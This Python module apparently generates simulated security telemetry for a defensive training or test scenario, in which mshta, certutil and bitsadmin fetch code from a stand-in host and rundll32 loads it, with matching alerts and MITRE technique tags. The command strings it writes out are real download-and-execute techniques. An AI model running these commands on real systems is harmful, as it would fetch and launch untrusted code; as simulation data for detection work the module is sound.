"""Programs that come with Windows fetch and run what they should not."""

from __future__ import annotations

from vedette.simulation.alerts import Triage
from vedette.simulation.files import artifact
from vedette.simulation.scene import Scene, scenario

SITE, ADDRESS = "files-mirror.example", "203.0.113.55"


@scenario("lolbin-download", "Downloads by certutil, bitsadmin and mshta", "T1105", "T1197", "T1218.005", "T1140")
def play(scene: Scene) -> None:
    """mshta runs a remote page; certutil and bitsadmin then download and decode a program."""
    start = scene.moment(7, "13:18")
    desk = scene.desk(scene.victim(), start)
    user = desk.owner
    mshta = desk.start(desk.shell, start, "mshta.exe", f"mshta.exe https://{SITE}/help/index.hta")
    desk.resolve(desk["dnscache"], scene.later(start, 0.5), SITE, ADDRESS)
    page = desk.connect(mshta, scene.later(start, 0.8), ADDRESS, 443, SITE)
    shell = desk.start(mshta, scene.later(start, 3), "cmd.exe", "cmd.exe /c fetch.cmd")
    scene.alert(
        desk,
        shell.created,
        "mshta.exe ran a page from the internet",
        "mshta.exe connected to an external site and started a command shell.",
        mshta,
        page,
        shell,
        user,
        category="DefenseEvasion",
        severity="Medium",
        techniques=("T1218.005",),
        triage=Triage("InProgress", assigned_to="analyst@halden.example"),
    )

    encoded = artifact("C:\\Users\\Public\\update.b64", "encoded tool 9", size=301_004)
    certutil = desk.start(
        shell,
        scene.later(start, 8),
        "certutil.exe",
        f"certutil.exe -urlcache -split -f https://{SITE}/u/update.txt {encoded.path}",
    )
    fetched = desk.connect(certutil, scene.later(certutil.created, 0.7), ADDRESS, 443, SITE)
    saved = desk.file(
        certutil,
        scene.later(certutil.created, 2),
        encoded,
        FileOriginUrl=f"https://{SITE}/u/update.txt",
        FileOriginIP=ADDRESS,
    )
    tool = artifact("C:\\Users\\Public\\update.exe", "tool 9", size=225_792)
    decode = desk.start(
        shell, scene.later(start, 14), "certutil.exe", f"certutil.exe -decode {encoded.path} {tool.path}"
    )
    decoded = desk.file(decode, scene.later(decode.created, 0.5), tool)
    run = desk.start(shell, scene.later(start, 18), tool, f"{tool.path} /i")
    scene.alert(
        desk,
        run.created,
        "certutil.exe downloaded and decoded a program",
        "certutil.exe fetched a text file from the internet and decoded it to a program, which was then started.",
        certutil,
        fetched,
        saved,
        decode,
        decoded,
        run,
        user,
        category="CommandAndControl",
        severity="High",
        techniques=("T1105", "T1140"),
        triage=Triage(
            "InProgress",
            assigned_to="analyst@halden.example",
            comments=("Hash sent for analysis.",),
            investigation="Running",
        ),
    )

    second = artifact("C:\\Users\\Public\\module.dll", "module 9", size=98_304)
    bits = desk.start(
        shell,
        scene.later(start, 60),
        "bitsadmin.exe",
        f"bitsadmin.exe /transfer upd /priority high https://{SITE}/u/m.bin {second.path}",
    )
    transfer = desk.connect(desk["bits"], scene.later(bits.created, 1), ADDRESS, 443, SITE)
    landed = desk.file(
        desk["bits"],
        scene.later(bits.created, 3),
        second,
        FileOriginUrl=f"https://{SITE}/u/m.bin",
        FileOriginIP=ADDRESS,
    )
    loaded = desk.start(shell, scene.later(start, 70), "rundll32.exe", f"rundll32.exe {second.path},Start")
    desk.load(loaded, scene.later(loaded.created, 0.2), second)
    scene.alert(
        desk,
        loaded.created,
        "BITS job downloaded a library that was then loaded",
        "bitsadmin.exe made a transfer job; the library that it brought was loaded by rundll32.exe.",
        bits,
        transfer,
        landed,
        loaded,
        user,
        category="DefenseEvasion",
        severity="Medium",
        techniques=("T1197",),
    )
